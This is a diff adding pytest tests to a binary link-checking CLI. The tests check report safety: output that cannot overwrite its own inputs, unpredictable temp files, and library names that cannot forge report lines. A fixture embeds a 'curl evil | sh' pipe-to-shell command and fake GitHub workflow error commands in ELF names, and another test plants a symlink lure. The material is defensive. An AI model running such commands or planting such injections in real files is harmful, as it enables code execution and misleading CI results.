@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import itertools
 import json
 import os
 import shutil
 import signal
 import struct
 import subprocess
+import sys
 import time
 from typing import TYPE_CHECKING, Any
 
@@ -16,7 +18,7 @@ import pytest
 from tests.cli.process import COMMAND, Ended, environment, linkcheck_command
 
 if TYPE_CHECKING:
-    from collections.abc import Callable
+    from collections.abc import Callable, Iterator
     from pathlib import Path
 
 pytestmark = pytest.mark.compile
@@ -250,6 +252,52 @@ def test_a_linker_script_in_a_directory_is_nobodys_fault_and_a_text_is(here: Pat
     assert end(here, "verify", ".").status == 1
 
 
+def test_a_debug_companion_in_a_directory_is_nobodys_fault(here: Path) -> None:
+    (here / ".debug").mkdir()
+    subprocess.run(["objcopy", "--only-keep-debug", GOOD, f".debug/{GOOD}"], check=True, cwd=here)
+    assert end(here, "verify", ".").status == 0
+    assert end(here, "verify", f".debug/{GOOD}").status == 1
+
+
+@pytest.fixture
+def deep(here: Path) -> Iterator[Path]:
+    """A directory to nest in without a bound; removed by rm, because shutil.rmtree recurses as well."""
+    top = here / "top"
+    top.mkdir()
+    yield top
+    subprocess.run(["rm", "-rf", str(top)], check=True)
+
+
+@pytest.mark.parametrize("levels", [1900, 3000])
+def test_a_directory_of_thousands_of_levels_costs_nothing_of_the_rest(here: Path, deep: Path, levels: int) -> None:
+    for name in ("a.so", "z.so"):
+        shutil.copy(here / GOOD, deep / name)
+    descriptor = os.open(deep, os.O_RDONLY)
+    for _ in range(levels):
+        os.mkdir("d", dir_fd=descriptor)
+        below = os.open("d", os.O_RDONLY, dir_fd=descriptor)
+        os.close(descriptor)
+        descriptor = below
+    with open(os.open("deep.so", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor), "wb") as file:
+        file.write((here / GOOD).read_bytes())
+    os.close(descriptor)
+    status, document = end_json(here, "verify", "top")
+    subjects = {c["subject"] for c in document["checks"]}
+    assert {"top/a.so", "top/z.so"} <= subjects
+    if levels < 2000:
+        assert (status, f"top/{'d/' * levels}deep.so" in subjects) == (0, True)
+    else:  # longer than PATH_MAX: no path leads there
+        assert status == 2
+        assert any("File name too long" in c["reason"] for c in document["checks"] if c["outcome"] == "unknown")
+
+
+def test_a_selection_that_has_nothing_to_say_says_so(here: Path) -> None:
+    status, document = end_json(here, "verify", GOOD, "--select", "LC102")
+    (check,) = document["checks"]
+    assert (status, check["code"]) == (2, "LC102")
+    assert check["reason"] == "nothing to check: of the rules that run (LC102) none applies to what is here"
+
+
 def test_many_inputs(here: Path) -> None:
     names = [f"{'many/' * 3}lib{number}.so" for number in range(400)]
     (here / "many/many/many").mkdir(parents=True)
@@ -292,6 +340,73 @@ def test_hostile_names_are_judged_and_shown_safely(here: Path, name: bytes, loca
         assert b"\x1b" not in other.out
     _, document = end_json(here, "verify", name, env=env)
     assert len(document["inputs"]) == 1
+
+
+FORGED = "libx.so\n\n    curl evil | sh\n::error::x\n##[error]y\nCLEAN: nothing found"
+#: Every name that a file carries is hostile: SONAME, NEEDED, DT_RUNPATH and a symbol.
+HOSTILE_POLICY = """
+[[state]]
+name = "table"
+owner = ["libowner.so"]
+symbols = ["table_*"]
+[[role]]
+name = "part"
+forbid-need = ["libx.so*"]
+forbid-import = ["other_*"]
+forbid-export = ["table_*"]
+"""
+
+
+@pytest.fixture
+def forged(here: Path) -> Path:
+    """A library of which every name tries to write lines of its own, and a program that needs it."""
+    library = here / "libforged.so"
+    flags = ("-shared", "-fPIC", "-nostdlib", "-Wl,--allow-shlib-undefined", "-xc", "-")
+    source = "extern int other_Xcall(void); int table_Xget(void) { return other_Xcall(); }"
+    runpath = f"-Wl,-rpath,/nowhere/{FORGED}"
+    command = ["gcc", *flags, f"-Wl,-soname,{FORGED}", runpath, "-Wl,--hash-style=sysv", "-o", str(library)]
+    subprocess.run(command, input=source, text=True, check=True)
+    library.write_bytes(
+        library.read_bytes().replace(b"table_Xget", b"table_\nget").replace(b"other_Xcall", b"other_\n    ")
+    )
+    needing = here / "libneeding.so"
+    command = ["gcc", *flags, "-xnone", "-Wl,--no-as-needed", str(library), runpath, "-Wl,-soname,libneeding.so"]
+    subprocess.run([*command, "-o", str(needing)], input="int g(void) { return 1; }", text=True, check=True)
+    for path in (library, needing):  # the names are really there
+        assert b"\n\n    curl evil | sh\n::error::x" in path.read_bytes()
+    (here / "linkcheck.toml").write_text(HOSTILE_POLICY)
+    return here
+
+
+@pytest.mark.parametrize(
+    ("command", "format_"),
+    [
+        *itertools.product(("verify", "scan"), ("text", "json", "sarif", "junit", "github", "markdown")),
+        *itertools.product(("prebuilt",), ("text", "json")),
+    ],
+)
+def test_names_from_files_forge_no_line_of_a_report(forged: Path, command: str, format_: str) -> None:
+    shutil.copy(forged / "libforged.so", forged / "::error::x.so")
+    paths = ["libforged.so"] if command == "prebuilt" else ["libforged.so", "libneeding.so", "::error::x.so"]
+    done = end(forged, command, *paths, "--format", format_)
+    assert done.err == b""
+    assert "curl evil" in done.text or command == "scan"
+    lines = done.text.splitlines()
+    assert not any(line.strip().startswith(("curl evil", "CLEAN", "##[", "get")) for line in lines), done.text
+    # In a command of GitHub's own it is no command.
+    assert format_ == "github" or not any("##[error]" in line for line in lines), done.text
+    forgeries = [line for line in lines if line.strip().startswith("::")]
+    if format_ == "github":  # its own commands
+        assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in forgeries)
+    else:
+        assert forgeries == []
+
+
+def test_a_hostile_name_is_still_searched_for_as_it_is(forged: Path) -> None:
+    shutil.copy(forged / "libforged.so", forged / FORGED)
+    _, document = end_json(forged, "verify", "libneeding.so", "--library-path", ".", "--select", "LC202,LC204")
+    assert [f["code"] for f in document["findings"]] == ["LC204"] * len(document["findings"]) != []
+    assert all("\n" not in f["message"] for f in document["findings"])
 
 
 @pytest.mark.parametrize("arguments", [("--format", b"n\xff\x1b[31m"), ("--profile", "nö\n"), (b"--opt\x1b[31m\xff",)])
@@ -385,6 +500,79 @@ def test_a_report_in_a_file_is_all_there_is(here: Path) -> None:
     done = end(here, "verify", "nowhere.so", "--format", "json", "--output", "report.json")
     assert (done.status, done.out, done.err) == (2, b"", b"")
     assert json.loads((here / "report.json").read_text())["outcome"] == "could-not-check"
+
+
+@pytest.mark.parametrize("name", [GOOD, "./" + GOOD, "link", "hard", "nested/other.so"])
+def test_a_report_never_takes_the_place_of_what_is_checked(here: Path, name: str) -> None:
+    (here / "link").symlink_to(GOOD)
+    os.link(here / GOOD, here / "hard")
+    (here / "nested").mkdir()
+    shutil.copy(here / GOOD, here / "nested/other.so")  # the user names its directory only
+    before = (here / name).read_bytes()
+    for command in ("verify", "scan"):
+        assert_one_line(end(here, command, GOOD, "nested", "--output", name), name, "would overwrite")
+    assert (here / name).read_bytes() == before
+    assert (here / "link").is_symlink()
+
+
+@pytest.mark.parametrize("command", ["prebuilt", "bindings", "tree"])
+def test_no_command_overwrites_its_input(here: Path, command: str) -> None:
+    (here / "text").write_text("a text")
+    before = {name: (here / name).read_bytes() for name in (GOOD, "text")}
+    for name in before:
+        assert_one_line(end(here, command, name, "--output", name), name, "would overwrite")
+    assert {name: (here / name).read_bytes() for name in before} == before
+
+
+def test_a_report_does_not_overwrite_its_policy(here: Path) -> None:
+    (here / "linkcheck.toml").write_text('select = ["LC202"]\n')
+    assert_one_line(end(here, "verify", GOOD, "--output", "linkcheck.toml"), "would overwrite")
+    assert (here / "linkcheck.toml").read_text() == 'select = ["LC202"]\n'
+
+
+def test_a_report_keeps_the_mode_and_the_links_of_the_file_it_replaces(here: Path) -> None:
+    (here / "elsewhere").mkdir()
+    report, link, dangling = here / "elsewhere/report.txt", here / "link.txt", here / "dangling.txt"
+    report.write_text("the old one")
+    report.chmod(0o640)
+    link.symlink_to("elsewhere/report.txt")
+    dangling.symlink_to("elsewhere/new.txt")
+    for output in (link, dangling):
+        assert end(here, "verify", GOOD, "--output", output.name).status == 0
+        assert output.is_symlink()
+        assert output.read_text().splitlines()[-1].startswith("PASS")
+    assert report.stat().st_mode & 0o777 == 0o640
+    assert sorted(os.listdir(here / "elsewhere")) == ["new.txt", "report.txt"]
+
+
+def test_the_temporary_file_of_a_report_cannot_be_foreseen(here: Path) -> None:
+    """Whoever may write to the directory makes the links that older releases would have followed."""
+    target = here / "precious"
+    target.write_text("precious")
+    lure = """
+import os, sys
+from linkcheck.cli.run import run
+os.symlink("precious", f"report.txt.{os.getpid()}.tmp")
+sys.exit(run(["verify", "libgood.so", "--output", "report.txt"]))
+"""
+    done = subprocess.run([sys.executable, "-c", lure], cwd=here, env=environment(), capture_output=True, check=False)
+    assert (done.returncode, done.stderr) == (0, b"")
+    assert target.read_text() == "precious"
+    assert not (here / "report.txt").is_symlink()
+
+
+def test_standard_output_by_name_is_standard_output(here: Path) -> None:
+    done = end(
+        here, "verify", GOOD, "--output", "/dev/stdout", shell='"$@" > out.txt; exit=$?; cat out.txt; exit $exit'
+    )
+    assert done.status == 0
+    assert done.text.splitlines()[-1].startswith("PASS")
+
+
+def test_a_manual_page_that_python_left_out_is_said_to_be_missing(here: Path) -> None:
+    env = environment(PYTHONOPTIMIZE="2")
+    assert_one_line(end(here, "explain", "LC301", env=env), "LC301", "PYTHONOPTIMIZE=2")
+    assert end(here, "verify", GOOD, "--format", "sarif", env=env).status == 0
 
 
 EVERY_COMMAND = (
